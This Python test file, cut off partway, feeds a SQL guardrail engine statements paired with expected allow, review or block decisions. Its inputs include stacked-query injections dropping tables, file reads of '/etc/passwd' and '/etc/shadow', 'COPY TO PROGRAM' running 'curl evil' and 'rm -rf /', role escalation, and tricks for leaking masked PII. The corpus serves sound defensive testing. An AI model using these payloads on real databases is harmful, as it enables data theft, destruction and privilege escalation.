"""The table-driven corpus: statements with the decision the engine must reach.

Each ``Case`` names an identity, the SQL text and the expected action against
the fixture bundle (production unless ``env="staging"``); optional fields pin
rules that must appear among the reasons, the statement kinds, the tables, the
classifications touched and whether the text must be rewritten for masking.
Identities: alice (human analyst, masked), bob (human, exempt from pii and
card masking), carol (dba), svc_app (service), agent_smith (AI agent).
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Case:
    sql: str
    action: str
    identity: str = "alice"
    env: str = "production"
    rules: tuple[str, ...] = ()
    kinds: tuple[str, ...] | None = None
    tables_read: tuple[str, ...] | None = None
    tables_written: tuple[str, ...] | None = None
    classifications: tuple[str, ...] | None = None
    rewritten: bool | None = None
    protocol: str = "simple"
    scs: bool = True


C = Case
CASES: list[Case] = []

# -- ORM-style reads of unclassified data: allowed, passed through untouched --
for sql in [
    "SELECT id, customer_id, total, status FROM orders WHERE id = 1",
    'SELECT "orders"."id", "orders"."total" FROM "orders" WHERE "orders"."status" = \'paid\' '
    'ORDER BY "orders"."id" DESC LIMIT 21',
    "SELECT COUNT(*) AS __count FROM orders WHERE status IN ('new', 'paid')",
    "SELECT o.id, p.amount FROM orders o JOIN payments p ON p.order_id = o.id WHERE o.id = 3",
    "SELECT id, name, price FROM products ORDER BY price DESC",
    "SELECT * FROM products",
    "SELECT 1",
    "SELECT now()",
    "SELECT version()",
    "SELECT current_user, current_database()",
    "SELECT o.status, sum(o.total) FROM orders o GROUP BY o.status HAVING sum(o.total) > 10",
    "SELECT id FROM orders WHERE created_at > now() - interval '7 days' LIMIT 100",
    "SELECT DISTINCT status FROM orders",
    "SELECT o.id, c.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id LIMIT 5",
    "SELECT name, tier FROM customers WHERE id = $1",
    "SELECT id FROM orders WHERE id = ANY($1)",
    "SELECT id, total FROM orders ORDER BY total DESC OFFSET 10 LIMIT 10",
    "SELECT EXISTS(SELECT 1 FROM orders WHERE status = 'new')",
    "SELECT a.id FROM audit_log a WHERE a.message LIKE 'event%'",
    "SELECT generate_series(1, 3)",
    "SELECT * FROM generate_series(1, 3) AS g(n)",
    "SELECT x FROM unnest(ARRAY[1, 2]) AS x",
    "SELECT id, total::text FROM orders WHERE total BETWEEN 1 AND 100",
    "SELECT coalesce(note, '') FROM orders WHERE id = 2",
    "SELECT * FROM orders WHERE id IN (SELECT order_id FROM payments WHERE amount > 50)",
    "WITH recent AS (SELECT * FROM orders WHERE id > 50) SELECT count(*) FROM recent",
    "SELECT row_number() OVER (ORDER BY total) FROM orders",
    "SELECT json_build_object('id', id, 'total', total) FROM orders LIMIT 3",
    "SELECT id FROM orders UNION ALL SELECT id FROM products",
    "SELECT pg_sleep(0)",
    "SELECT 'DROP TABLE orders'",
    "SELECT $$; DROP TABLE orders; $$",
    "SELECT $tag$ DELETE FROM orders $tag$",
    "SELECT E'\\'; DROP TABLE orders; --'",
    "SELECT 1 /* ; DROP TABLE orders */",
    "SELECT 1 /* nested /* ; DROP TABLE orders */ still comment */",
    "SELECT 1 -- ; DROP TABLE orders",
    "SELECT '; DELETE FROM orders' AS \"; DROP TABLE x\"",
    "SELECT U&'\\0044ROP TABLE orders'",
    "SELECT id FROM orders FOR UPDATE",
    "SELECT id FROM orders FOR SHARE SKIP LOCKED",
    "SHOW statement_timeout",
    "SHOW ALL",
]:
    action = "review" if "pg_sleep" in sql else "allow"
    # A table with masked columns is always replaced by its masking subquery, even
    # when the statement reads none of them (cheap: the planner flattens it).
    touches = any(t in sql for t in ("customers", "payments", "employees"))
    if sql.startswith("EXPLAIN") and "customers" in sql:
        action = "block"  # mask.explain_rewritten
    CASES.append(C(sql, action, rewritten=touches))

# -- transactions, session settings, cursors and prepared statements --
for sql, action in [
    ("BEGIN", "allow"),
    ("BEGIN ISOLATION LEVEL SERIALIZABLE", "allow"),
    ("START TRANSACTION READ ONLY", "allow"),
    ("COMMIT", "allow"),
    ("ROLLBACK", "allow"),
    ("SAVEPOINT s1", "allow"),
    ("RELEASE SAVEPOINT s1", "allow"),
    ("ROLLBACK TO SAVEPOINT s1", "allow"),
    ("BEGIN; SELECT id FROM orders; COMMIT", "allow"),
    ("SET statement_timeout = '5s'", "allow"),
    ("SET LOCAL lock_timeout = 1000", "allow"),
    ("SET application_name = 'report'", "allow"),
    ("SET TIME ZONE 'UTC'", "allow"),
    ("SET datestyle TO ISO, MDY", "allow"),
    ("SET client_encoding = 'UTF8'", "allow"),
    ("SET NAMES 'UTF8'", "allow"),
    ("SET TRANSACTION ISOLATION LEVEL REPEATABLE READ", "allow"),
    ("SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY", "allow"),
    ("SET standard_conforming_strings = on", "allow"),
    ("SET extra_float_digits = 3", "allow"),
    ("RESET statement_timeout", "allow"),
    ("RESET ALL", "allow"),
    ("DISCARD ALL", "allow"),
    ("SET standard_conforming_strings = off", "block"),
    ("SET search_path = evil, public", "block"),
    ("SET search_path TO DEFAULT", "allow"),
    ("SET SCHEMA 'evil'", "block"),
    ("SET ROLE postgres", "block"),
    ("SET SESSION AUTHORIZATION postgres", "block"),
    # Off, a query a row security policy would filter fails instead: it only narrows.
    ("SET row_security = off", "allow"),
    ("SET session_replication_role = replica", "block"),
    ("SET LOCAL role = 'postgres'", "block"),
    ("SET app.tenant_id = '42'", "block"),
    ("SET backslash_quote = on", "block"),
    ("RESET role", "allow"),
    ("SET ROLE NONE", "block"),
    ("SELECT set_config('statement_timeout', '1s', false)", "allow"),
    ("SELECT set_config('search_path', 'evil', false)", "block"),
    ("SELECT set_config('role', 'postgres', true)", "block"),
    ("SELECT set_config($1, $2, false)", "block"),
    ("SELECT current_setting('search_path')", "allow"),
    ("PREPARE q(int) AS SELECT id, total FROM orders WHERE id = $1", "allow"),
    ("EXECUTE q(1)", "allow"),
    ("DEALLOCATE q", "allow"),
    ("DEALLOCATE ALL", "allow"),
    ("DECLARE c CURSOR FOR SELECT id FROM orders", "allow"),
    ("DECLARE c SCROLL CURSOR WITH HOLD FOR SELECT id FROM orders", "allow"),
    ("FETCH 10 FROM c", "allow"),
    ("FETCH ALL IN c", "allow"),
    ("MOVE NEXT IN c", "allow"),
    ("CLOSE c", "allow"),
    ("CLOSE ALL", "allow"),
    ("PREPARE d AS DELETE FROM orders", "review"),
    ("PREPARE d2 AS DELETE FROM orders WHERE id = $1", "allow"),
    # A lock can stop every other client: held for review in production.
    ("LOCK TABLE orders IN SHARE MODE", "review"),
]:
    CASES.append(C(sql, action))

# -- writes --
for sql, action in [
    ("INSERT INTO orders (id, customer_id, total, status) VALUES (1000, 1, 9.99, 'new')", "allow"),
    ("INSERT INTO orders (id, customer_id) VALUES ($1, $2) RETURNING id", "allow"),
    ("INSERT INTO products SELECT 100 + id, name, price FROM products", "allow"),
    (
        "INSERT INTO products VALUES (1, 'a', 1) ON CONFLICT (id) DO UPDATE SET price = "
        "excluded.price",
        "allow",
    ),
    ("INSERT INTO products VALUES (1, 'a', 1) ON CONFLICT DO NOTHING", "allow"),
    (
        "INSERT INTO customers (id, name, email) VALUES (1, 'x', 'a@b.c') ON CONFLICT (id) DO "
        "UPDATE SET email = excluded.email",
        "allow",
    ),
    ("UPDATE customers SET email = 'new@example.org', name = upper(name) WHERE id = 1", "allow"),
    (
        "UPDATE customers SET name = (SELECT email FROM customers c2 WHERE c2.id = customers.id) "
        "WHERE id = 1",
        "allow",
    ),
    ("UPDATE orders SET status = 'paid' WHERE id = 7", "allow"),
    ("UPDATE orders SET status = $1 WHERE id = $2", "allow"),
    ('UPDATE "orders" SET "status" = \'shipped\' WHERE "orders"."id" IN (1, 2, 3)', "allow"),
    ("UPDATE orders o SET note = p.amount::text FROM payments p WHERE p.order_id = o.id", "allow"),
    ("DELETE FROM orders WHERE id = 5", "allow"),
    ("DELETE FROM orders WHERE id = $1", "allow"),
    ("DELETE FROM orders o USING payments p WHERE p.order_id = o.id AND p.amount < 1", "allow"),
    ("DELETE FROM orders WHERE status = 'new' RETURNING id", "allow"),
    (
        "MERGE INTO products t USING (SELECT 1 AS id) s ON t.id = s.id WHEN MATCHED THEN "
        "UPDATE SET price = 0",
        "allow",
    ),
    # No effective WHERE in production: held for review.
    ("DELETE FROM orders", "review"),
    ("UPDATE orders SET status = 'x'", "review"),
    ("DELETE FROM orders WHERE 1 = 1", "review"),
    ("DELETE FROM orders WHERE true", "review"),
    ("DELETE FROM orders WHERE id = id", "review"),
    ("DELETE FROM orders WHERE id > 3 OR 1 = 1", "review"),
    ("DELETE FROM orders WHERE NOT false", "review"),
    ("DELETE FROM orders WHERE 'a' = 'a'", "review"),
    ("DELETE FROM orders WHERE note LIKE '%'", "review"),
    ("DELETE FROM orders WHERE (id = id) IS TRUE", "review"),
    ("UPDATE orders SET total = 0 WHERE 2 > 1", "review"),
    ("UPDATE orders SET total = 0 WHERE $1", "review"),
    ("DeLeTe\nFROM\torders", "review"),
    ("/* harmless */ DELETE /* really */ FROM orders -- all of it", "review"),
    ('DELETE FROM "orders"', "review"),
    ("DELETE FROM public.orders", "review"),
    ('DELETE FROM public."orders" WHERE "id" = "id"', "review"),
    ('DELETE FROM U&"\\006Frders"', "review"),
    ("WITH gone AS (DELETE FROM orders RETURNING id) SELECT count(*) FROM gone", "review"),
    ("WITH x AS (UPDATE orders SET total = 0 RETURNING id) SELECT 1", "review"),
    ("EXPLAIN ANALYZE DELETE FROM orders", "review"),
    ("EXPLAIN (ANALYZE true, FORMAT json) UPDATE orders SET total = 0", "review"),
    ("EXPLAIN DELETE FROM orders", "allow"),
    ("EXPLAIN (ANALYZE false) DELETE FROM orders", "allow"),
    ("EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1", "allow"),
    ("SELECT 1; DELETE FROM orders", "review"),
    ("SELECT 1;DELETE FROM orders;SELECT 2", "review"),
    ("SELECT $$a$$; DELETE FROM orders", "review"),
    ("SELECT 1 /* */; DELETE FROM orders", "review"),
    ("COPY orders FROM STDIN", "allow"),
    ("COPY orders (id, status) FROM STDIN WITH (FORMAT csv)", "allow"),
    ("TRUNCATE orders", "review"),
    ("TRUNCATE TABLE orders, products CASCADE", "review"),
]:
    CASES.append(C(sql, action))

# -- DDL: review in production, drop blocked by guardrail --
for sql, action in [
    ("CREATE TABLE t_new (id int)", "review"),
    ("CREATE TABLE IF NOT EXISTS t_new (id int PRIMARY KEY, v text)", "review"),
    ("ALTER TABLE orders ADD COLUMN flag boolean", "review"),
    ("CREATE INDEX ON orders (status)", "review"),
    ("CREATE INDEX CONCURRENTLY idx ON orders (created_at)", "review"),
    ("CREATE SEQUENCE s1", "review"),
    ("CREATE SCHEMA reporting", "review"),
    ("COMMENT ON TABLE orders IS 'orders'", "review"),
    ("CREATE VIEW v_orders AS SELECT id, total FROM orders", "review"),
    ("CREATE TABLE o2 AS SELECT * FROM orders", "review"),
    ("SELECT * INTO o3 FROM orders", "review"),
    ("ALTER TABLE orders RENAME TO orders_old", "review"),
    ("CREATE TYPE mood AS ENUM ('a', 'b')", "review"),
    ("GRANT SELECT ON orders TO PUBLIC", "review"),
    ("VACUUM orders", "review"),
    ("DROP TABLE orders", "block"),
    ("DROP TABLE IF EXISTS orders CASCADE", "block"),
    ("drop table orders", "block"),
    ('DROP TABLE "orders"', "block"),
    ("DROP INDEX idx", "block"),
    ("DROP VIEW v_orders", "block"),
    ("DROP SCHEMA public CASCADE", "block"),
    ("/**/DROP/**/TABLE/**/orders", "block"),
    ("SELECT 1; DROP TABLE orders", "block"),
    ("SELECT 1;\nDROP TABLE orders;", "block"),
    ("SELECT 'x'; DROP TABLE orders; SELECT 'y'", "block"),
    ("SELECT $a$ $$ $a$; DROP TABLE orders", "block"),
    ("SELECT 1 /* /* */ */; DROP TABLE orders", "block"),
    ("SELECT E'\\\\'; DROP TABLE orders", "block"),
    ("SELECT 'it''s'; DROP TABLE orders", "block"),
    ('SELECT 1 AS "x;y"; DROP TABLE orders', "block"),
    ("SELECT 1 --\r; DROP TABLE orders", "block"),
    ("SELECT 1 --\n; DROP TABLE orders", "block"),
    ("BEGIN; DROP TABLE orders; COMMIT", "block"),
    ("PREPARE x AS SELECT 1; DROP TABLE orders", "block"),
]:
    CASES.append(C(sql, action))

# -- every statement kind is known; each category has its production default --
# Code the engine cannot see into: blocked (and refused to masked identities).
for sql in [
    "DO $$ BEGIN PERFORM 1; END $$",
    "DO LANGUAGE plpgsql $x$ BEGIN EXECUTE 'DROP TABLE orders'; END $x$",
    "CALL do_things()",
]:
    CASES.append(C(sql, "block", rules=("default.code_statement", "mask.opaque_code")))
    CASES.append(C(sql, "block", identity="bob", rules=("default.code_statement",)))
# Roles: blocked.
for sql in [
    "CREATE ROLE mallory SUPERUSER",
    "ALTER ROLE alice SUPERUSER",
    "DROP ROLE alice",
    "REASSIGN OWNED BY alice TO bob",
    "GRANT pg_read_all_data TO alice",
]:
    CASES.append(C(sql, "block", rules=("default.role_statement",)))
# Nothing about reading or security: allowed everywhere, production included.
for sql in [
    "LISTEN events",
    "NOTIFY events, 'x'",
    "UNLISTEN *",
    "SET CONSTRAINTS ALL IMMEDIATE",
    "SET CONSTRAINTS ALL DEFERRED",
    "CLOSE ALL",
    "RESET ALL",
    "DISCARD ALL",
    "SET row_security = off",
    "SELECT pg_advisory_unlock_all()",
    "SELECT 1; LISTEN x",
]:
    CASES.append(C(sql, "allow"))
# Object definitions and server upkeep: reviewed in production.
for sql, rule in [
    ("CHECKPOINT", "default.maintenance_in_production"),
    ("REINDEX TABLE orders", "default.maintenance_in_production"),
    ("CLUSTER orders", "default.maintenance_in_production"),
    ("CREATE EXTENSION IF NOT EXISTS hstore", "default.ddl_in_production"),
    ("CREATE DATABASE other", "default.ddl_in_production"),
    ("SECURITY LABEL ON TABLE orders IS 'x'", "default.ddl_in_production"),
    ("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC", "default.ddl_in_production"),
    (
        "CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION f()",
        "default.ddl_in_production",
    ),
    ("CREATE TYPE r AS RANGE (subtype = int4)", "default.ddl_in_production"),
    ("CREATE COLLATION c (provider = icu, locale = 'und')", "default.ddl_in_production"),
    ("ALTER SCHEMA public OWNER TO bob", "default.ddl_in_production"),
    ("ALTER FUNCTION f() OWNER TO bob", "default.ddl_in_production"),
    ("CREATE STATISTICS st ON id, total FROM orders", "default.ddl_in_production"),
]:
    CASES.append(C(sql, "review", rules=(rule,)))
    CASES.append(C(sql, "allow", env="staging"))
# The safety floor: blocked whatever the guardrails say.
for sql, rule in [
    ("ALTER SYSTEM SET fsync = off", "floor.server_config"),
    ("LOAD 'plugin'", "floor.server_access"),
    ("CREATE TABLESPACE t LOCATION '/tmp/t'", "floor.server_access"),
    ("IMPORT FOREIGN SCHEMA s FROM SERVER srv INTO public", "floor.remote_server"),
    ("CREATE SERVER srv FOREIGN DATA WRAPPER postgres_fdw", "floor.remote_server"),
    ("CREATE USER MAPPING FOR CURRENT_USER SERVER srv", "floor.remote_server"),
    ("ALTER ROLE alice SET search_path = evil", "floor.role_setting"),
]:
    CASES.append(C(sql, "block", rules=(rule,)))
    CASES.append(C(sql, "block", env="staging", rules=(rule,)))

# -- unparseable: refused everywhere, as the server would refuse it --
for sql in [
    "SELEC 1",
    "SELECT * FROM",
    "DROP TABLE",
    "SELECT 'unterminated",
    "SELECT $$ unterminated",
    "SELECT 1; DELET FROM orders",
    "DELETE orders",
    "SELECT /* unterminated comment",
    "))",
    "SELECT 1 FROM orders WHERE",
    'SELECT "unterminated',
    "UPDATE orders SET WHERE id = 1",
]:
    CASES.append(C(sql, "block", rules=("default.unparseable",)))
    CASES.append(C(sql, "block", env="staging", rules=("default.unparseable",)))

# -- functions that reach files, processes or run dynamic SQL --
for sql, rule in [
    ("SELECT pg_read_file('/etc/passwd')", "floor.server_access"),
    ("SELECT pg_catalog.pg_read_file('postgresql.conf')", "floor.server_access"),
    ("SELECT pg_read_binary_file('/etc/shadow')", "floor.server_access"),
    ("SELECT * FROM pg_ls_dir('.')", "floor.server_access"),
    ("SELECT pg_stat_file('base')", "floor.server_access"),
    ("SELECT lo_import('/etc/passwd')", "floor.server_access"),
    ("SELECT lo_export(1, '/tmp/x')", "floor.server_access"),
    ("SELECT pg_terminate_backend(123)", "floor.server_access"),
    ("SELECT pg_cancel_backend(pid) FROM pg_stat_activity", "floor.server_access"),
    ("SELECT pg_reload_conf()", "floor.server_access"),
    # The extension's connects are the safety floor, whatever schema they are in.
    ("SELECT dblink('host=x', 'select 1')", "floor.remote_server"),
    ("SELECT public.dblink_exec('host=x', 'drop table t')", "floor.remote_server"),
    # Not a built-in: refused unless a guardrail names it.
    ("SELECT public.lower('X')", "default.function.unlisted"),
    ("SELECT \"pg_read_file\"('/etc/passwd')", "floor.server_access"),
    ("SELECT PG_READ_FILE('/etc/passwd')", "floor.server_access"),
    (
        "SELECT id FROM orders WHERE pg_read_file('/etc/passwd') IS NOT NULL",
        "floor.server_access",
    ),
    (
        "WITH x AS (SELECT pg_read_file('/etc/hosts')) SELECT * FROM x",
        "floor.server_access",
    ),
    ("SELECT 1; SELECT pg_ls_dir('/')", "floor.server_access"),
    (
        "SELECT query_to_xml('select * from customers', true, true, '')",
        "mask.dynamic_sql",
    ),
    ("SELECT table_to_xml('customers', true, true, '')", "mask.dynamic_sql"),
    ("SELECT cursor_to_xml('c', 10, true, true, '')", "mask.dynamic_sql"),
    ("SELECT database_to_xml(true, true, '')", "mask.dynamic_sql"),
    (
        "SELECT * FROM ts_stat('SELECT to_tsvector(email) FROM customers')",
        "mask.dynamic_sql",
    ),
    ("COPY orders TO '/tmp/orders.csv'", "floor.copy_server_side"),
    ("COPY orders FROM '/tmp/orders.csv'", "floor.copy_server_side"),
    ("COPY orders TO PROGRAM 'curl evil'", "floor.copy_server_side"),
    ("COPY (SELECT 1) TO PROGRAM 'rm -rf /'", "floor.copy_server_side"),
    ("EXPLAIN SELECT pg_read_file('x')", "floor.server_access"),
    ("PREPARE p AS SELECT pg_read_file($1)", "floor.server_access"),
]:
    CASES.append(C(sql, "block", rules=(rule,)))

# -- reading classified columns as alice: allowed, but rewritten --
CLASSIFIED_READS = [
    "SELECT email FROM customers WHERE id = 1",
    "SELECT c.email FROM customers c WHERE c.id = 1",
    "SELECT c.email AS e FROM customers AS c WHERE c.id < 5",
    "SELECT upper(email), lower(ssn) FROM customers WHERE id < 5",
    "SELECT email || '' FROM customers WHERE id = 2",
    "SELECT substr(ssn, 1, 3) FROM customers WHERE id = 3",
    "SELECT id FROM customers WHERE email = 'person1.secret@mail1.example.org'",
    "SELECT id FROM customers WHERE ssn LIKE '101%'",
    "SELECT id FROM customers ORDER BY ssn LIMIT 3",
    "SELECT * FROM customers WHERE id = 1",
    "SELECT c.* FROM customers c WHERE c.id = 1",
    "SELECT c FROM customers c WHERE c.id = 1",
    "SELECT row_to_json(c) FROM customers c WHERE c.id = 1",
    "SELECT to_jsonb(c) ->> 'email' FROM customers c WHERE c.id = 1",
    "SELECT json_agg(c) FROM customers c WHERE c.id < 3",
    "SELECT array_agg(c.ssn) FROM customers c WHERE c.id < 3",
    "SELECT (c).ssn FROM customers c WHERE c.id = 1",
    "SELECT profile->>'street' FROM customers WHERE id = 1",
    "SELECT profile FROM customers WHERE id = 1",
    "SELECT email FROM customers WHERE id = 1 UNION SELECT ssn FROM customers WHERE id = 1",
    "SELECT email FROM customers INTERSECT SELECT email FROM customers",
    "SELECT (SELECT email FROM customers WHERE id = o.customer_id) FROM orders o WHERE o.id = 1",
    "SELECT * FROM (SELECT email, ssn FROM customers) AS sub WHERE sub.email IS NOT NULL LIMIT 2",
    "SELECT o.id FROM orders o WHERE o.customer_id IN (SELECT id FROM customers WHERE ssn "
    "LIKE '1%')",
    "WITH x AS (SELECT * FROM customers) SELECT email FROM x LIMIT 2",
    "WITH RECURSIVE r AS (SELECT id, email FROM customers WHERE id = 1 UNION ALL SELECT "
    "c.id, c.email FROM customers c JOIN r ON c.id = r.id + 1 WHERE c.id < 4) SELECT * FROM r",
    "WITH customers AS (SELECT * FROM customers) SELECT email FROM customers LIMIT 2",
    "SELECT x.email FROM orders o, LATERAL (SELECT email FROM customers c WHERE c.id = "
    "o.customer_id) x WHERE o.id < 3",
    "SELECT o.id, c.email FROM orders o JOIN customers c ON c.id = o.customer_id WHERE o.id < 4",
    "SELECT o.id, c.email FROM orders o LEFT JOIN customers c USING (id) WHERE o.id < 4",
    "SELECT email FROM public.customers WHERE id = 1",
    'SELECT "email" FROM "customers" WHERE "id" = 1',
    'SELECT "email" FROM "public"."customers" WHERE "id" = 1',
    "SELECT email FROM CUSTOMERS WHERE ID = 1",
    'SELECT email FROM U&"\\0063ustomers" WHERE id = 1',
    "SELECT email FROM public/**/./**/customers WHERE id = 1",
    "SELECT email FROM ONLY customers WHERE id = 1",
    "SELECT email FROM customers * WHERE id = 1",
    "TABLE customers",
    "SELECT email FROM customers WHERE id = 1 FOR UPDATE",
    "SELECT card_number, card_token FROM payments WHERE id = 1",
    "SELECT p.card_number FROM payments p JOIN orders o ON o.id = p.order_id WHERE o.id = 2",
    "SELECT salary, ssn, badge FROM hr.employees WHERE id = 1",
    "SELECT birth_date, phone FROM customers WHERE id = 3",
    "SELECT extract(year from birth_date) FROM customers WHERE id = 3",
    "SELECT count(*) FROM customers WHERE birth_date < '1990-01-01'",
    "SELECT email::varchar(5) FROM customers WHERE id = 1",
    "SELECT CAST(ssn AS bytea) FROM customers WHERE id = 1",
    "SELECT format('%s', email) FROM customers WHERE id = 1",
    "SELECT string_agg(email, ',') FROM customers WHERE id < 4",
    "SELECT md5(ssn) FROM customers WHERE id = 1",
    "EXPLAIN SELECT card_number FROM payments WHERE id = 1",
    "EXPLAIN ANALYZE SELECT card_number FROM payments WHERE id = 1",
    "SELECT EXISTS (SELECT 1 FROM customers WHERE email LIKE 'person1.%')",
    "SELECT CASE WHEN ssn LIKE '1%' THEN 1 ELSE 0 END FROM customers WHERE id = 1",
    "VALUES ((SELECT email FROM customers WHERE id = 1))",
    "SELECT id FROM customers WHERE id = 1 AND ssn = $1",
    "PREPARE leak(int) AS SELECT email FROM customers WHERE id = $1",
    "DECLARE cur CURSOR FOR SELECT ssn FROM customers WHERE id < 3",
    "COPY customers TO STDOUT",
    "COPY customers (id, email) TO STDOUT WITH (FORMAT csv)",
    "COPY (SELECT email FROM customers WHERE id = 1) TO STDOUT",
    "CREATE TEMP TABLE leak AS SELECT * FROM customers",
    "SELECT * INTO TEMP leak2 FROM customers",
    "INSERT INTO orders (id, customer_id, note) SELECT 5000 + id, id, email FROM customers "
    "WHERE id = 1",
    "UPDATE orders o SET note = c.email FROM customers c WHERE c.id = o.customer_id AND o.id = 1",
    "DELETE FROM orders o USING customers c WHERE c.id = o.customer_id AND c.ssn LIKE '9%'",
]
for sql in CLASSIFIED_READS:
    action = "allow"
    if sql.startswith(("CREATE TEMP TABLE", "SELECT * INTO")):
        action = "review"  # DDL in production
    CASES.append(C(sql, action, rewritten=True))
# The plan of a masked read shows the masking expressions, and no key: hashing is keyed
# inside the database, so EXPLAIN is allowed like the read itself.
for sql in [
    "EXPLAIN SELECT email FROM customers",
    "EXPLAIN ANALYZE SELECT email FROM customers WHERE id = 1",
    "EXPLAIN (VERBOSE) SELECT o.id FROM orders o JOIN customers c ON c.id = o.customer_id",
    "EXPLAIN SELECT * FROM hr.employees",
]:
    CASES.append(C(sql, "allow", rewritten=True))
# The exempt identity sees the same statements untouched except for the columns it is
# not exempt from (the restricted profile and the token have no exemption).
for sql in [
    "SELECT email, ssn FROM customers WHERE id = 1",
    "SELECT c.email FROM customers c WHERE c.id = 1",
    "SELECT email FROM customers WHERE id = 1 UNION SELECT ssn FROM customers WHERE id = 1",
    "SELECT card_number FROM payments WHERE id = 1",
    "COPY customers (id, email) TO STDOUT",
]:
    CASES.append(C(sql, "allow", identity="bob", rewritten=True))
CASES.append(
    C("SELECT name, tier FROM customers WHERE id = 1", "allow", identity="bob", rewritten=True)
)
CASES.append(
    C("CREATE MATERIALIZED VIEW mv AS SELECT email FROM customers", "review", rewritten=True)
)
for sql in [
    "SELECT id, name FROM products",
    "SELECT 1",
]:
    CASES.append(C(sql, "allow", identity="bob", rewritten=False))

# -- attempts to move classified data beyond the rewrite: blocked --
for sql, rule in [
    ("UPDATE customers SET name = email WHERE id = 1", "mask.write_oracle"),
    ("UPDATE customers SET name = name WHERE id = 1 RETURNING old.ssn", "mask.write_oracle"),
    (
        "UPDATE customers SET name = name WHERE id = 1 RETURNING WITH (NEW AS n) n.email",
        "mask.write_oracle",
    ),
    # A column alias list renames the sub-select's columns: ssn is the target's.
    (
        "UPDATE customers SET name = name WHERE id = 1 "
        "RETURNING (SELECT ssn FROM customers AS x(a, b, c, d) LIMIT 1)",
        "mask.write_oracle",
    ),
    (
        "UPDATE customers SET name = (SELECT email FROM (orders o RIGHT JOIN customers c "
        "ON false) AS j(a, b, c, d, e, f) LIMIT 1) WHERE id = 1",
        "mask.write_oracle",
    ),
    ("UPDATE customers SET name = 'x' WHERE email LIKE 'a%'", "mask.write_oracle"),
    ("UPDATE customers SET name = 'x' WHERE id = 1 RETURNING ssn", "mask.write_oracle"),
    ("UPDATE customers SET name = 'x' WHERE id = 1 RETURNING *", "mask.write_returning"),
    ("UPDATE customers c SET name = 'x' WHERE c.ssn = '1' ", "mask.write_oracle"),
    ("DELETE FROM customers WHERE ssn = '101-41-5037'", "mask.write_oracle"),
    ("DELETE FROM customers WHERE id = 1 RETURNING email", "mask.write_oracle"),
    ("DELETE FROM customers WHERE id = 1 RETURNING customers", "mask.write_returning"),
    (
        "DELETE FROM customers c WHERE EXISTS (SELECT 1 FROM orders o WHERE o.note = c.email)",
        "mask.write_oracle",
    ),
    (
        "INSERT INTO customers (id, name) VALUES (99, 'x') ON CONFLICT (id) DO UPDATE SET name = "
        "customers.email",
        "mask.write_oracle",
    ),
    ("INSERT INTO customers (id, name) VALUES (99, 'x') RETURNING *", "mask.write_returning"),
    (
        "INSERT INTO customers (id, name) VALUES (1, 'x') ON CONFLICT (id) DO UPDATE SET name = "
        "'y' RETURNING email",
        "mask.write_oracle",
    ),
    (
        "MERGE INTO customers c USING orders o ON c.email = o.note WHEN MATCHED THEN DELETE",
        "mask.write_oracle",
    ),
    (
        "WITH x AS (UPDATE customers SET tier = ssn WHERE id = 1 RETURNING id) SELECT * FROM x",
        "mask.write_oracle",
    ),
    ("UPDATE payments SET amount = 0 WHERE card_number LIKE '4111%'", "mask.write_oracle"),
    ("UPDATE customers SET name = row_to_json(customers)::text WHERE id = 1", "mask.write_oracle"),
    ("UPDATE customers c SET name = c::text WHERE id = 1", "mask.write_oracle"),
    ("UPDATE customers SET name = (customers).ssn WHERE id = 1", "mask.write_oracle"),
    ("UPDATE customers c SET name = concat(c.*) WHERE id = 1", "mask.write_oracle"),
    (
        "DELETE FROM customers WHERE EXISTS (SELECT 1 FROM orders o WHERE o.note = email)",
        "mask.write_oracle",
    ),
    (
        "DELETE FROM customers WHERE id IN (SELECT customer_id FROM orders WHERE note = ssn)",
        "mask.write_oracle",
    ),
    (
        "UPDATE customers SET name = (SELECT max(x.e) FROM (SELECT email AS e) x) WHERE id = 1",
        "mask.write_oracle",
    ),
    ("DELETE FROM customers WHERE id = 1 RETURNING to_jsonb(customers)", "mask.write_oracle"),
    (
        "INSERT INTO customers (id, name) VALUES (1, 'x') ON CONFLICT (id) DO UPDATE SET "
        "tier = customers::text",
        "mask.write_oracle",
    ),
    ("UPDATE hr.employees SET name = 'x' WHERE salary > 60000", "mask.write_oracle"),
    ("CREATE VIEW v_leak AS SELECT * FROM customers", "mask.opaque_definition"),
    (
        "CREATE RULE r AS ON INSERT TO orders DO ALSO SELECT email FROM customers",
        "mask.opaque_definition",
    ),
    (
        "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS 'SELECT email FROM customers'",
        "mask.opaque_definition",
    ),
    (
        "CREATE TRIGGER t BEFORE INSERT ON customers FOR EACH ROW EXECUTE FUNCTION f()",
        "mask.opaque_definition",
    ),
    ("CREATE POLICY p ON customers USING (email LIKE 'a%')", "mask.opaque_definition"),
    (
        "ALTER TABLE customers ADD COLUMN e2 text GENERATED ALWAYS AS (email) STORED",
        "mask.ddl_on_classified",
    ),
    ("ALTER TABLE customers RENAME COLUMN email TO contact", "mask.ddl_on_classified"),
    ("ALTER TABLE customers RENAME TO clients", "mask.ddl_on_classified"),
    ("ALTER TABLE customers ADD CONSTRAINT c CHECK (ssn NOT LIKE '1%')", "mask.ddl_on_classified"),
    ("SELECT * FROM pg_stats WHERE tablename = 'customers'", "mask.value_catalog"),
    ("SELECT most_common_vals FROM pg_catalog.pg_stats", "mask.value_catalog"),
    ("SELECT query FROM pg_stat_activity", "mask.value_catalog"),
    ("SELECT * FROM pg_statistic", "mask.value_catalog"),
    ("SELECT * FROM my_function()", "mask.opaque_table_function"),
    ("SELECT current_query(), phone FROM customers WHERE id = 1", "mask.statement_text"),
    ("SELECT * FROM orders, LATERAL leak_everything(orders.id)", "mask.opaque_table_function"),
]:
    CASES.append(C(sql, "block", rules=(rule,)))

# -- identities --
for sql in ["SELECT 1", "SELECT id FROM orders WHERE id = 1"]:
    CASES.append(C(sql, "block", identity="mallory", rules=("default.unknown_identity",)))
    CASES.append(C(sql, "block", identity="eve", rules=("default.identity_expired",)))
    CASES.append(C(sql, "block", identity="", rules=("default.unknown_identity",)))
    CASES.append(C(sql, "block", identity="ALICE", rules=("default.unknown_identity",)))
for sql in [
    "INSERT INTO orders (id) VALUES (1)",
    "UPDATE orders SET status = 'x' WHERE id = 1",
    "DELETE FROM orders WHERE id = 1",
    "CREATE TABLE t (id int)",
